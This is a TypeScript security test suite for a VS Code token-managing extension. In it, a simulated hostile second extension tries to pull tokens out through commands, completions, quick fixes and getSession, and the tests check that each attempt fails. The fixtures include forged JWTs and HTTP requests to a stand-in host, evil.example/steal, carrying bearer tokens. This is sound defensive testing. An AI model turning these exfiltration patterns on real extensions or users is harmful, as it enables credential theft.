// Attacks from inside VS Code, against a sandbox started here: a second extension (the test-only consumer) tries
// every way it has to a token or a revocation, and a `<c2m:token>` the completion did not put in tries to catch a
// token. Rows A1, A2 and A8-A10 of `npm run test:reliability`; outcomes and counters go to its ledger. What the other
// extension does to documents and editors (open, show, edit) any extension may do through the same vscode API; the
// commands it runs go through the consumer, as a third party's would.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as vscode from 'vscode';
import type { C2mTestApi } from '../../client/src/integrations/extensionApi';
import type { Sandbox } from '../../sandbox/src/types';
import { accountLabelOf } from '../../client/src/integrations/authProvider';
import { maskTokenId } from '../../client/src/ui/viewFormat';
import { ClientCommands, TOKEN_PLACEHOLDER } from '@shared/protocol/clientCommands';
import { tokenFingerprint } from '@shared/tokens/fingerprint';
import { note, outcome, runningIn } from '../support/reliability/ledger';
import {
  acceptTokenCompletion,
  c2mApi,
  cursorAt,
  eventually,
  exchangesOf,
  profileFor,
  run,
  setProfiles,
  startTestSandbox,
  testClients,
  userProfiles,
  workspaceFile,
} from '../support/inHost/extension';

runningIn('vscode');

const PROFILE = 'atk';
const PROFILE_NAME = `IT ${PROFILE}`;
const CONSUMER_ID = 'c2m-test.c2m-consumer';

interface Consumer {
  getSession(
    scopes: string[],
    options: vscode.AuthenticationGetSessionOptions,
  ): Promise<vscode.AuthenticationSession | undefined>;
  callExports(args: unknown[]): Promise<string[]>;
  run(command: string, ...args: unknown[]): Promise<{ result?: unknown; error?: string }>;
}

const JWT = /eyJ[\w-]{8,}\.[\w-]+\.[\w-]*/;
/** `lt_…` as a token of its own (token ids such as tok_lt_… are metadata). */
const LONG_TERM = /(?<![\w-])lt_[\w-]{16,}/;

function forgedJwt(sub: string): string {
  const b64 = (o: unknown): string => Buffer.from(JSON.stringify(o)).toString('base64url');
  return `${b64({ alg: 'HS256', typ: 'JWT' })}.${b64({ sub, exp: Math.floor(Date.now() / 1000) - 600 })}.c2lnbmF0dXJlLW5vdC1jaGVja2Vk`;
}

function range(
  line: number,
  start: number,
  end: number,
): { start: { line: number; character: number }; end: { line: number; character: number } } {
  return { start: { line, character: start }, end: { line, character: end } };
}

/** The range of `needle` in `doc` (first occurrence). */
function rangeIn(doc: vscode.TextDocument, needle: string): vscode.Range {
  const at = doc.getText().indexOf(needle);
  assert.ok(at >= 0, `${needle.slice(0, 12)}… is in the document`);
  return new vscode.Range(doc.positionAt(at), doc.positionAt(at + needle.length));
}

describe('reliability: in the extension host: attacks', function () {
  this.timeout(120_000);
  let api: C2mTestApi;
  let sandbox: Sandbox;
  let consumer: Consumer;
  let savedProfiles: ReturnType<typeof userProfiles>;
  const files: string[] = [];

  before(async () => {
    api = await c2mApi();
    savedProfiles = userProfiles();
    const clients = testClients('attack-client-secret-5f1e');
    sandbox = await startTestSandbox(clients);
    await setProfiles(api, [profileFor(PROFILE, sandbox.baseUrl, clients.secret, 'client_secret')], PROFILE);
    await api.testing.engine.setClientSecret(PROFILE, clients.secret.clientSecret!);
    assert.ok(await run('c2m.issueLongTermToken', PROFILE), 'long-term token issued');
    const extension = vscode.extensions.getExtension<Consumer>(CONSUMER_ID);
    assert.ok(extension, `${CONSUMER_ID} is loaded as a second extension under development`);
    consumer = await extension.activate();
  });

  afterEach(function () {
    const test = this.currentTest;
    if (test) outcome(test.title, test.state === 'passed' ? 'passed' : test.state === 'failed' ? 'failed' : 'pending');
  });

  after(async () => {
    sandbox.faults.reset();
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await api.testing.engine.forgetProfile(PROFILE).catch(() => undefined);
    await setProfiles(api, savedProfiles);
    for (const f of files) fs.rmSync(f, { force: true });
    await sandbox.stop();
  });

  it('[A1] another extension gets no token and revokes nothing: the exported API, every c2m.lsp.* command with arguments it chose, the completion of a document nobody sees, c2m.* commands that would reveal or revoke, getSession without consent; the sandbox receives no request', async () => {
    const short = (await api.testing.engine.getShortTermToken(PROFILE)).value;
    const long = await api.testing.engine.getTokenValue(PROFILE, 'long');
    assert.ok(long);
    const longFp = tokenFingerprint(long);
    const shortFp = tokenFingerprint(short);
    const n = note(
      'A1',
      'a second extension: exported API, c2m.lsp.* with chosen arguments and with ids from a hidden document, c2m.leak.*, c2m.revokeToken, c2m.copyShortTermToken, getSession without consent',
    );

    // The user's own file, shown, with the token the user put there; and the attacker's files.
    const userFile = workspaceFile('attack-user.http');
    files.push(userFile, workspaceFile('.env'));
    fs.writeFileSync(userFile, `GET ${sandbox.baseUrl}/jobs\nAuthorization: Bearer ${short}\n`);
    const userDoc = await vscode.workspace.openTextDocument(userFile);
    await vscode.window.showTextDocument(userDoc, { viewColumn: vscode.ViewColumn.One });
    const fake = forgedJwt('attacker');
    const evil = `GET https://evil.example/steal\nAuthorization: Bearer ${TOKEN_PLACEHOLDER}\nX-Old: ${fake}\n`;
    const shownDoc = await vscode.workspace.openTextDocument({ language: 'http', content: evil });
    await vscode.window.showTextDocument(shownDoc, { viewColumn: vscode.ViewColumn.Two, preview: false });
    // Addressed to the profile's own origin: a request to another host is offered no token at all ([A12]); this one
    // proves the presence gates, since the attacker reads whatever lands in its document.
    const hiddenDoc = await vscode.workspace.openTextDocument({
      language: 'http',
      content: `GET ${sandbox.baseUrl}/steal\nAuthorization:\n`,
    });
    // Let the language server see the documents (it answers completions for them) before counting.
    await eventually(async () => {
      const list = await vscode.commands.executeCommand<vscode.CompletionList>(
        'vscode.executeCompletionItemProvider',
        hiddenDoc.uri,
        new vscode.Position(1, 'Authorization:'.length),
      );
      return list.items.some((i) => i.command?.command === ClientCommands.insertToken) ? true : undefined;
    }, 'the language server to answer completions');

    const requestsBefore = sandbox.stats().requests;
    const given: string[] = [];
    const seen = (what: string, value: unknown): void =>
      void given.push(`${what}: ${JSON.stringify(value) ?? 'undefined'}`);

    // 1. The exported API: every function, with a profile id, a name, a fingerprint.
    for (const args of [[], [PROFILE], [PROFILE_NAME], [longFp], [shortFp], [PROFILE, 0]]) {
      given.push(...(await consumer.callExports(args)));
      n.badInput();
    }

    // 2. The language client's commands with arguments the extension chose (its own shown document, the user's file).
    const shownUri = shownDoc.uri.toString();
    const attempts: [string, unknown][] = [
      [
        ClientCommands.insertToken,
        { uri: shownUri, range: range(1, 22, 22 + TOKEN_PLACEHOLDER.length), profileId: PROFILE, template: '{token}' },
      ],
      [
        ClientCommands.insertToken,
        { uri: shownUri, range: range(1, 22, 22 + TOKEN_PLACEHOLDER.length), profileId: '', template: 'X{token}' },
      ],
      [ClientCommands.insertToken, 'an-id-it-guessed'],
      [
        ClientCommands.replaceToken,
        { uri: shownUri, range: range(2, 8, 8 + fake.length), fingerprint: tokenFingerprint(fake) },
      ],
      [ClientCommands.replaceStaleTokens, { uri: shownUri }],
      [ClientCommands.moveTokenToEnv, { uri: userDoc.uri.toString(), range: range(1, 22, 22 + short.length) }],
      [ClientCommands.revokeTokenByFingerprint, { fingerprint: longFp }],
      [ClientCommands.revokeTokenByFingerprint, { fingerprint: shortFp, uri: userDoc.uri.toString() }],
    ];
    for (const [command, args] of attempts) {
      seen(command, await consumer.run(command, args));
      n.badInput();
    }

    // 3. The real completion of a document nobody sees: its edit, then its command with the arguments it came with.
    const list = (
      await consumer.run(
        'vscode.executeCompletionItemProvider',
        hiddenDoc.uri,
        new vscode.Position(1, 'Authorization:'.length),
      )
    ).result as vscode.CompletionList;
    const item = list.items.find((i) => i.command?.command === ClientCommands.insertToken);
    assert.ok(item?.command, 'the completion is offered (without a usable id)');
    const edit = new vscode.WorkspaceEdit();
    edit.replace(
      hiddenDoc.uri,
      item.range instanceof vscode.Range ? item.range : item.range!.replacing,
      typeof item.insertText === 'string' ? item.insertText : item.insertText!.value,
    );
    assert.ok(await vscode.workspace.applyEdit(edit));
    seen('hidden completion', await consumer.run(item.command.command, ...(item.command.arguments ?? [])));
    n.badInput();

    // 4. c2m.* commands that would reveal or revoke, with made-up targets (nobody answers the questions they ask).
    const finding = {
      uri: userDoc.uri.toString(),
      range: range(1, 22, 22 + short.length),
      fingerprint: shortFp,
      shape: 'jwt',
      status: 'active',
      profileId: PROFILE,
      kind: 'short',
    };
    const fakeFinding = {
      ...finding,
      uri: shownUri,
      range: range(2, 8, 8 + fake.length),
      fingerprint: tokenFingerprint(fake),
      status: 'unknown',
    };
    for (const [command, ...args] of [
      ['c2m.leak.revoke', finding],
      ['c2m.leak.revoke', { finding }],
      ['c2m.leak.replace', fakeFinding],
      ['c2m.leak.moveToEnv', { finding }],
    ] as [string, ...unknown[]][]) {
      seen(command, await consumer.run(command, ...args));
      n.badInput();
    }
    // These ask the user first, whoever runs them (here: the user says no).
    for (const [command, ...args] of [
      ['c2m.revokeToken', { profileId: PROFILE, kind: 'long' }],
      ['c2m.copyShortTermToken'],
      ['c2m.copyShortTermToken', { profileId: PROFILE, kind: 'short' }],
    ] as [string, ...unknown[]][]) {
      api.testing.answer(undefined);
      seen(command, await consumer.run(command, ...args));
      n.badInput();
    }
    given.push(`clipboard: ${await vscode.env.clipboard.readText()}`);
    const unasked = api.testing.pendingAnswers();

    // 5. getSession without consent: quietly, and silent.
    seen('getSession', await consumer.getSession(['jobs:read'], { createIfNone: false }));
    seen('getSession silent', await consumer.getSession(['jobs:read'], { silent: true }));
    seen('getSession own scopes', await consumer.getSession([], { silent: true }));
    n.badInput(3);

    const leaked = given.filter((g) => g.includes(short) || g.includes(long) || JWT.test(g) || LONG_TERM.test(g));
    const requests = sandbox.stats().requests - requestsBefore;
    n.secretsFound(leaked.length).done();
    assert.deepEqual(leaked, [], 'no token value reached the other extension');
    assert.equal(requests, 0, `the sandbox received ${JSON.stringify(sandbox.stats().byRoute)}`);
    assert.equal(shownDoc.getText(), evil, "nothing was written into the attacker's shown document");
    assert.equal(
      hiddenDoc.lineAt(1).text,
      `Authorization: Bearer ${TOKEN_PLACEHOLDER}`,
      'the hidden completion got no token',
    );
    assert.equal(userDoc.getText(), fs.readFileSync(userFile, 'utf8'), "the user's file is unchanged");
    assert.equal(fs.existsSync(workspaceFile('.env')), false, 'no .env was written');
    assert.ok(
      api.tokens.tokens().every((t) => t.profileId !== PROFILE || t.status !== 'revoked'),
      'nothing was revoked',
    );
    assert.equal(unasked, 0, 'revoke and copy asked the user each time');
  });

  /** The log lines written since `from` that say a c2m.lsp.* command was refused, and why. */
  function refusals(from: number): string[] {
    return api.testing
      .logLines()
      .slice(from)
      .filter((l) => / c2m\.lsp\.\w+: refused: /.test(l));
  }

  /** A document only the attacker made, shown by it, so it is the active editor of the (focused) window. */
  async function attackerDocument(content: string): Promise<{ doc: vscode.TextDocument; editor: vscode.TextEditor }> {
    const doc = await vscode.workspace.openTextDocument({ language: 'http', content });
    const editor = await vscode.window.showTextDocument(doc, { viewColumn: vscode.ViewColumn.Two, preview: false });
    return { doc, editor };
  }

  it('[A8] another extension completes in its own shown (even active) document, applies the placeholder edit and runs the insert command with the id it got: no token is inserted, the sandbox gets no request', async () => {
    const n = note(
      'A8',
      'a second extension: vscode.executeCompletionItemProvider on its own untitled http document (shown; active), the placeholder edit applied, c2m.lsp.insertToken run with the id from the item',
    );
    // A live short-term token exists: inserting would need no exchange, so nothing but the document shows a leak.
    const live = await api.testing.getShortTermToken(PROFILE);
    const userFile = workspaceFile('attack-completion-user.http');
    files.push(userFile);
    fs.writeFileSync(userFile, `GET ${sandbox.baseUrl}/jobs\nAccept: application/json\n`);
    const userDoc = await vscode.workspace.openTextDocument(userFile);
    await vscode.window.showTextDocument(userDoc, { viewColumn: vscode.ViewColumn.One });
    // The profile's own origin (another host is offered no token at all, [A12]): what lands here the attacker reads.
    const content = `GET ${sandbox.baseUrl}/steal\nAuthorization:\n`;
    const at = new vscode.Position(1, 'Authorization:'.length);
    const requestsBefore = sandbox.stats().requests;
    const logged = api.testing.logLines().length;

    /** The attacker's moves on `doc`: the completion's item, its edit applied, its command run with its arguments. */
    const attack = async (doc: vscode.TextDocument): Promise<vscode.CompletionItem> => {
      const item = await eventually(async () => {
        const list = (await consumer.run('vscode.executeCompletionItemProvider', doc.uri, at))
          .result as vscode.CompletionList;
        return list.items.find((i) => i.command?.command === ClientCommands.insertToken);
      }, 'the fresh-token completion');
      const edit = new vscode.WorkspaceEdit();
      edit.replace(
        doc.uri,
        item.range instanceof vscode.Range ? item.range : item.range!.replacing,
        typeof item.insertText === 'string' ? item.insertText : item.insertText!.value,
      );
      assert.ok(await vscode.workspace.applyEdit(edit));
      assert.ok(doc.lineAt(1).text.endsWith(TOKEN_PLACEHOLDER), 'the placeholder edit went in');
      const ran = await consumer.run(item.command!.command, ...(item.command!.arguments ?? []));
      assert.equal(ran.error, undefined);
      n.badInput();
      return item;
    };

    // a) Its document shown beside the user's, the user's editor active: no id is handed out at all.
    const beside = await attackerDocument(content);
    await vscode.window.showTextDocument(userDoc, { viewColumn: vscode.ViewColumn.One });
    assert.equal(vscode.window.activeTextEditor?.document, userDoc);
    const idless = await attack(beside.doc);

    // b) Its document shown and made the active editor (the window focused): an id is handed out, but the cursor is
    //    not where accepting the suggestion would leave it.
    const active = await attackerDocument(content);
    assert.equal(vscode.window.activeTextEditor?.document, active.doc);
    assert.ok(vscode.window.state.focused, 'the window is focused: the editor checks are what is tested here');
    const withId = await attack(active.doc);
    n.done();

    for (const doc of [beside.doc, active.doc]) {
      assert.equal(
        doc.lineAt(1).text,
        `Authorization: Bearer ${TOKEN_PLACEHOLDER}`,
        "no token in the attacker's document",
      );
      assert.ok(!doc.getText().includes(live) && !JWT.test(doc.getText()));
    }
    assert.equal(
      sandbox.stats().requests - requestsBefore,
      0,
      `the sandbox received ${JSON.stringify(sandbox.stats().byRoute)}`,
    );
    assert.equal(
      idless.command!.arguments?.length ?? 0,
      0,
      'an item of a document that is not the active editor carries no id',
    );
    assert.equal(withId.command!.arguments?.length, 1, 'the active editor of a focused window gets an id');
    const why = refusals(logged);
    assert.equal(why.length, 2, why.join('\n'));
    assert.match(why[0]!, /not called with an id/);
    assert.match(why[1]!, /the cursor is not at the placeholder the accepted completion put in/);
  });

  it('[A9] another extension asks for quick fixes and lenses on a forged JWT and on a revoked token of ours in its own active document, and runs what it gets: no Replace for the forged one, nothing replaced, the sandbox gets no request', async () => {
    const n = note(
      'A9',
      'a second extension: vscode.executeCodeActionProvider / executeCodeLensProvider on a forged JWT and on a revoked token of ours (copied from a file) in its own active untitled document; every c2m.lsp.replace* it got, run',
    );
    // A revoked token of ours, as the attacker could copy it from any file in the workspace.
    const old = await api.testing.getShortTermToken(PROFILE);
    await api.testing.engine.revokeByFingerprint(tokenFingerprint(old));
    const fake = forgedJwt('attacker');
    // Ours goes to its own origin: at another host no Replace is offered for it at all (the destination guard).
    const content = `GET https://evil.example/steal\nAuthorization: Bearer ${fake}\n\n###\nGET ${sandbox.baseUrl}/jobs\nAuthorization: Bearer ${old}\n`;
    const { doc } = await attackerDocument(content);
    assert.ok(vscode.window.state.focused);
    await eventually(
      () => (vscode.languages.getDiagnostics(doc.uri).length >= 2 ? true : undefined),
      'the diagnostics of both tokens',
    );
    const requestsBefore = sandbox.stats().requests;
    const logged = api.testing.logLines().length;

    const fixesAt = async (value: string): Promise<vscode.CodeAction[]> =>
      (
        await consumer.run(
          'vscode.executeCodeActionProvider',
          doc.uri,
          rangeIn(doc, value),
          vscode.CodeActionKind.QuickFix.value,
        )
      ).result as vscode.CodeAction[];
    const replaces = (actions: readonly { command?: vscode.Command }[]) =>
      actions.filter(
        (a) =>
          a.command?.command === ClientCommands.replaceToken ||
          a.command?.command === ClientCommands.replaceStaleTokens,
      );

    // The forged one: not ours, so it is offered no Replace (nor a lens); "replace all" is, for the token of ours below.
    const onFake = await fixesAt(fake);
    n.badInput();
    // Ours (revoked): offered, with an id, but the cursor is not on it (the attacker did not put it there).
    const onOurs = replaces(await fixesAt(old));
    assert.ok(onOurs.length > 0, 'a token of ours is offered a replace');
    const lenses = replaces(
      (await consumer.run('vscode.executeCodeLensProvider', doc.uri)).result as vscode.CodeLens[],
    );
    assert.ok(lenses.length > 0, 'and a lens');
    for (const action of [...replaces(onFake), ...onOurs]) {
      assert.equal(
        (await consumer.run(action.command!.command, ...(action.command!.arguments ?? []))).error,
        undefined,
      );
      n.badInput();
    }
    // A lens click asks in a modal dialog, which no extension can answer: here the user dismisses it.
    for (const lens of lenses) {
      api.testing.answer(undefined);
      assert.equal((await consumer.run(lens.command!.command, ...(lens.command!.arguments ?? []))).error, undefined);
      n.badInput();
    }
    const unasked = api.testing.pendingAnswers();
    n.done();

    assert.equal(doc.getText(), content, "nothing was written into the attacker's document");
    assert.equal(
      sandbox.stats().requests - requestsBefore,
      0,
      `the sandbox received ${JSON.stringify(sandbox.stats().byRoute)}`,
    );
    assert.ok(
      !onFake.some((a) => a.command?.command === ClientCommands.replaceToken),
      'no replace offered for a token that is not ours',
    );
    assert.equal(unasked, 0, 'every lens asked the user');
    const why = refusals(logged);
    assert.ok(
      why.length === replaces(onFake).length + onOurs.length &&
        why.every((l) => /the cursor is not (on the token|where the quick fix was offered)/.test(l)),
      why.join('\n'),
    );
  });

  it('[A10] another extension runs the "Revoke this token" quick fix of the user\'s own file, and of its own document holding the user\'s token: each asks the user in a modal dialog naming the token; dismissed, nothing is revoked and the sandbox gets no request', async () => {
    const n = note(
      'A10',
      "a second extension: vscode.executeCodeActionProvider on the user's active file and on its own active document holding the user's live short-term token; c2m.lsp.revokeTokenByFingerprint run with the id it got",
    );
    const live = await api.testing.getShortTermToken(PROFILE);
    const info = api.tokens.tokens().find((t) => t.profileId === PROFILE && t.kind === 'short');
    assert.ok(info && info.fingerprint === tokenFingerprint(live));
    const userFile = workspaceFile('attack-revoke-user.http');
    files.push(userFile);
    fs.writeFileSync(userFile, `GET ${sandbox.baseUrl}/jobs\nAuthorization: Bearer ${live}\n`);
    const userDoc = await vscode.workspace.openTextDocument(userFile);
    await vscode.window.showTextDocument(userDoc, { viewColumn: vscode.ViewColumn.One });
    const own = await vscode.workspace.openTextDocument({
      language: 'http',
      content: `GET https://evil.example/\nAuthorization: Bearer ${live}\n`,
    });
    const requestsBefore = sandbox.stats().requests;
    const notices = api.testing.logLines().length;

    // Both fixes first (each asked for while its document is the active editor, as while the user works in it), then run.
    const fixes: vscode.Command[] = [];
    for (const doc of [userDoc, own]) {
      await cursorAt(doc, new vscode.Position(0, 0));
      const revoke = await eventually(async () => {
        const actions = (
          await consumer.run(
            'vscode.executeCodeActionProvider',
            doc.uri,
            rangeIn(doc, live),
            vscode.CodeActionKind.QuickFix.value,
          )
        ).result as vscode.CodeAction[];
        return actions.find((a) => a.command?.command === ClientCommands.revokeTokenByFingerprint)?.command;
      }, 'the revoke quick fix');
      fixes.push(revoke);
    }
    for (const [i, fix] of fixes.entries()) {
      await cursorAt(i === 0 ? userDoc : own, new vscode.Position(0, 0));
      // The modal dialog no extension can answer: here the user dismisses it.
      api.testing.answer(undefined);
      assert.equal((await consumer.run(fix.command, ...(fix.arguments ?? []))).error, undefined);
      n.badInput();
    }
    const unasked = api.testing.pendingAnswers();
    n.done();
    assert.equal(
      sandbox.stats().requests - requestsBefore,
      0,
      `the sandbox received ${JSON.stringify(sandbox.stats().byRoute)}`,
    );
    assert.equal(
      api.tokens.tokens().find((t) => t.fingerprint === info.fingerprint)?.status,
      info.status,
      'the token is not revoked',
    );
    assert.equal(unasked, 0, 'the user was asked each time');
    const lines = api.testing.logLines().slice(notices);
    const declined = `revoke from a quick fix: not confirmed, nothing was revoked (the short-term token ${maskTokenId(info.tokenId)} of profile ${PROFILE})`;
    assert.equal(lines.filter((l) => l.includes(declined)).length, 2, lines.join('\n'));
  });

  it("[A1] two profiles with the same name are two accounts: consent given to one is not the other's", async () => {
    const a = accountLabelOf({ id: 'team-eu', name: 'Team' });
    const b = accountLabelOf({ id: 'team-us', name: 'Team' });
    note('A1', 'two profiles named "Team": account labels (VS Code keys consent by label)').badInput().done();
    assert.notEqual(a, b);
    assert.ok(a.includes('Team') && b.includes('Team'), 'the name is still what the user sees');
  });

  it('[A2] the token goes only where the completion was accepted, followed through edits while it is fetched; a <c2m:token> elsewhere (in the request URL) never gets one; a lost placeholder inserts nothing and says so', async () => {
    const n = note(
      'A2',
      'completion accepted below a URL holding <c2m:token>; lines inserted and the placeholder deleted while the token is fetched (sandbox latency)',
    );
    const file = workspaceFile('attack-placeholder.http');
    files.push(file);
    // The request goes to the profile's own origin (a request to another host gets no token offered at all).
    const url = `GET ${sandbox.baseUrl}/collect?t=${TOKEN_PLACEHOLDER}`;
    fs.writeFileSync(file, `${url}\nAuthorization:\n`);
    const doc = await vscode.workspace.openTextDocument(file);
    const editor = await vscode.window.showTextDocument(doc);
    sandbox.faults.latencyMs(1500);
    try {
      // a) Lines go in above while the token is fetched (a fresh one: the current one is revoked first).
      await api.testing.engine.revoke(PROFILE, 'short');
      let exchanges = exchangesOf(sandbox);
      const first = await acceptTokenCompletion(doc, new vscode.Position(1, 'Authorization:'.length), PROFILE_NAME);
      await eventually(() => (exchangesOf(sandbox) > exchanges ? true : undefined), 'the exchange to be in flight');
      assert.ok(
        await editor.edit((e) => e.insert(new vscode.Position(0, 0), '# added while the token was fetched\n\n')),
      );
      await first.command;
      n.fault();
      const fresh = (await api.testing.engine.getShortTermToken(PROFILE)).value;
      assert.equal(doc.lineAt(0).text, '# added while the token was fetched');
      assert.equal(doc.lineAt(2).text, url, 'the URL keeps its placeholder');
      assert.equal(
        doc.lineAt(3).text,
        `Authorization: Bearer ${fresh}`,
        'the token went where the completion was accepted',
      );

      // b) The placeholder is deleted while the token is fetched: nothing is inserted anywhere, and the user is told.
      assert.ok(await editor.edit((e) => e.insert(new vscode.Position(4, 0), 'Authorization:\n')));
      await api.testing.engine.revoke(PROFILE, 'short');
      exchanges = exchangesOf(sandbox);
      const logged = api.testing.logLines().length;
      const second = await acceptTokenCompletion(doc, new vscode.Position(4, 'Authorization:'.length), PROFILE_NAME);
      await eventually(
        () => (exchangesOf(sandbox) > exchanges ? true : undefined),
        'the second exchange to be in flight',
      );
      const at = doc.lineAt(4).text.indexOf(TOKEN_PLACEHOLDER);
      assert.ok(at > 0, 'the completion put its placeholder on the new header line');
      assert.ok(await editor.edit((e) => e.delete(new vscode.Range(4, at, 4, at + TOKEN_PLACEHOLDER.length))));
      await second.command;
      n.fault().done();
      assert.equal(doc.lineAt(2).text, url, 'the URL still keeps its placeholder: it never receives a token');
      assert.equal(doc.lineAt(4).text, 'Authorization: Bearer ', 'nothing inserted where the placeholder was');
      assert.ok(
        api.testing
          .logLines()
          .slice(logged)
          .some((l) => l.includes('no token was inserted')),
        'the user is told',
      );
    } finally {
      sandbox.faults.reset();
    }
  });
});
